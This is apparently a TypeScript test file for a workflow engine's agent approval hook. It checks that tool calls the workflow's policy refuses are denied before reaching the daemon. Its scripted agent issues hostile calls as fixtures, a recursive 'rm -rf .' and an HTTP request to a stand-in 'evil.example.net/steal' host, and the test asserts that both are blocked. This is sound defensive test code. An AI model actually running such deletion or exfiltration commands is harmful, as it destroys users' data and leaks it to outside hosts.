/**
 * A workflow agent's approval hook follows the workflow: a tool the agent was
 * not given, or a call the workflow's tool policy refuses, is answered with
 * the refusal (the same `agent:tool_result` a daemon's refusal gives) and the
 * daemon is never called; the calls the workflow allows go to the daemon with
 * the policy, which enforces it again.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect, Layer } from "effect"
import { ToolPolicyCheck } from "@relavium/domain"
import { DaemonRouter, type ToolCall } from "@relavium/ports"
import { answer, checkLog, engineLayer, last, ofType, runToRest, scriptedModel, toolCall } from "./harness.js"

/** A router that offers every tool it is asked for and records each call it is asked to run. */
const countingRouter = () => {
  const calls: Array<ToolCall> = []
  const layer = Layer.succeed(
    DaemonRouter,
    DaemonRouter.of({
      tools: (names) => Effect.succeed(names.map((name) => ({ name, description: name, parameters: { type: "object" } }))),
      execute: (call) =>
        Effect.sync(() => {
          calls.push(call)
          return { output: `ran ${call.name}`, isError: false }
        })
    })
  )
  return { layer, calls }
}

const workflow = (policy: string) => `schema_version: '1.0'
workflow:
  id: policed
${policy}
  agents:
    - id: bot
      provider: anthropic
      model: claude-sonnet-4
      system_prompt: 'You use tools.'
      tools: [read_file, run_command, http_request]
  nodes:
    - { id: work, type: agent, agent_ref: bot, prompt_template: 'Work.' }
    - { id: out, type: output }
  edges:
    - { from: work, to: out }
`

describe("workflow agent: the approval hook applies the workflow's tool policy", () => {
  it.live("refused calls get the daemon's refusal without reaching it; allowed calls reach it with the policy", () =>
    Effect.gen(function* () {
      const router = countingRouter()
      const model = scriptedModel([
        toolCall("c1", "run_command", { command: "rm", args: ["-rf", "."] }),
        toolCall("c2", "http_request", { url: "https://evil.example.net/steal" }),
        toolCall("c3", "write_file", { path: "x.txt", content: "not given to this agent" }),
        toolCall("c4", "http_request", { url: "https://api.example.com/status" }),
        toolCall("c5", "read_file", { path: "notes.txt" }),
        answer("Done.")
      ])
      const { events } = yield* runToRest(workflow("  tools: { allowedDomains: [api.example.com] }")).pipe(
        Effect.provide(engineLayer({ model: model.layer, router: router.layer }))
      )
      checkLog(events)
      assert.strictEqual(last(events).type, "run:completed")

      // Only the two allowed calls reached the daemon, carrying the workflow's policy.
      assert.deepStrictEqual(router.calls.map((c) => c.name), ["http_request", "read_file"])
      assert.deepStrictEqual(router.calls[0]!.policy, { allowedDomains: ["api.example.com"] })

      assert.deepStrictEqual(
        ofType(events, "agent:tool_call").map((e) => e.toolName),
        ["run_command", "http_request", "write_file", "http_request", "read_file"]
      )
      assert.deepStrictEqual(
        ofType(events, "agent:tool_result").map((e) => [e.toolId, e.success, e.errorCode ?? null, e.outputSummary]),
        [
          ["c1", false, "tool_denied", ToolPolicyCheck.NO_COMMANDS],
          ["c2", false, "tool_denied", "the host 'evil.example.net' is not in the workflow's allowedDomains"],
          ["c3", false, "tool_unavailable", "no tool named 'write_file' is available to this agent (its tools are read_file, run_command, http_request)"],
          ["c4", true, null, "ran http_request"],
          ["c5", true, null, "ran read_file"]
        ]
      )
      // The model is told why, as it would be by the daemon (turn 0's tool message follows the prompt and the assistant's call).
      const toolMessage = model.requests[1]!.messages[2]!
      assert.deepStrictEqual(toolMessage.content, [
        { type: "tool_result", id: "c1", name: "run_command", result: ToolPolicyCheck.NO_COMMANDS, isError: true }
      ])
    }))

  it.live("a workflow that declares no tool policy leaves the allowlists to the daemon", () =>
    Effect.gen(function* () {
      const router = countingRouter()
      const model = scriptedModel([toolCall("c1", "run_command", { command: "echo", args: ["hi"] }), answer("Done.")])
      const { events } = yield* runToRest(workflow("")).pipe(Effect.provide(engineLayer({ model: model.layer, router: router.layer })))
      checkLog(events)
      assert.deepStrictEqual(router.calls.map((c) => [c.name, c.policy]), [["run_command", undefined]])
      assert.deepStrictEqual(ofType(events, "agent:tool_result").map((e) => e.success), [true])
    }))
})
